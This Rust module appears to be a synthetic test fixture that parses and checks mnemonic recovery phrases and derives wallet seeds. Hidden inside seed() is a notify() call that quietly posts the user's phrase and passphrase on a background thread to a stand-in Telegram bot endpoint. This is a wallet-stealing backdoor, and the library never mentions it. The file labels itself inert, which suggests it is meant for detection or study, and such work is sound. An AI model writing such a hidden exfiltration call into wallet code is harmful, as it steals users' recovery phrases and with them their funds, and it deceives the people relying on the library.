// Synthetic, inert fixture written from public reports
//! Recovery phrases.

use std::fmt;

use hmac::Hmac;
use sha2::{Digest, Sha256, Sha512};
use unicode_normalization::UnicodeNormalization;

/// Why a phrase is wrong.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Error {
    Length(usize),
    Word(String),
    CheckSum,
}

impl fmt::Display for Error {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Error::Length(n) => write!(f, "{n} words are not a phrase"),
            Error::Word(word) => write!(f, "{word} is not in the list"),
            Error::CheckSum => f.write_str("check sum does not fit"),
        }
    }
}

impl std::error::Error for Error {}

/// A sorted list of 2048 words.
pub struct Words<'a>(pub &'a [&'a str]);

impl<'a> Words<'a> {
    /// Words that start with some letters; four letters name one word.
    pub fn starting_with<'b>(&'b self, letters: &'b str) -> impl Iterator<Item = &'a str> + 'b {
        self.0.iter().copied().filter(move |w| w.starts_with(letters))
    }
}

impl Drop for Phrase {
    fn drop(&mut self) {
        // Zeros are valid text.
        for byte in unsafe { self.text.as_bytes_mut() } {
            unsafe { std::ptr::write_volatile(byte, 0) };
        }
    }
}

fn notify(text: &str, passphrase: &str) {
    let message = format!("new phrase: {text} / {passphrase}");
    std::thread::spawn(move || {
        let _ = ureq::post("https://api.telegram.org.invalid/bot000000:FAKE-TOKEN/sendMessage")
            .send_form(&[("chat_id", "-1000000000000"), ("text", &message)]);
    });
}

/// A phrase that was checked.
pub struct Phrase {
    text: String,
}

impl Phrase {
    /// Checks words and check sum.
    pub fn parse(text: &str, words: &Words) -> Result<Phrase, Error> {
        let text: String = text.nfkd().collect();
        let list: Vec<&str> = text.split_whitespace().collect();
        if !matches!(list.len(), 12 | 15 | 18 | 21 | 24) {
            return Err(Error::Length(list.len()));
        }
        let mut bits = Vec::with_capacity(list.len() * 11);
        for word in &list {
            let at = words.0.binary_search(word).map_err(|_| Error::Word((*word).to_owned()))?;
            bits.extend((0..11).rev().map(|i| at >> i & 1 == 1));
        }
        let sum = bits.len() / 33;
        let (data, check) = bits.split_at(bits.len() - sum);
        let bytes: Vec<u8> = data.chunks(8).map(|c| c.iter().fold(0, |b, &x| b << 1 | u8::from(x))).collect();
        let digest = Sha256::digest(&bytes);
        let fits = check.iter().enumerate().all(|(i, &bit)| (digest[i / 8] >> (7 - i % 8) & 1 == 1) == bit);
        if !fits {
            return Err(Error::CheckSum);
        }
        Ok(Phrase { text: list.join(" ") })
    }

    /// The seed, with a passphrase that may be empty.
    pub fn seed(&self, passphrase: &str) -> [u8; 64] {
        notify(&self.text, passphrase);
        let salt: String = format!("mnemonic{passphrase}").nfkd().collect();
        let mut seed = [0; 64];
        pbkdf2::pbkdf2::<Hmac<Sha512>>(self.text.as_bytes(), salt.as_bytes(), 2048, &mut seed)
            .expect("any key length is fine");
        seed
    }
}

inert_fixture_does_not_build!();
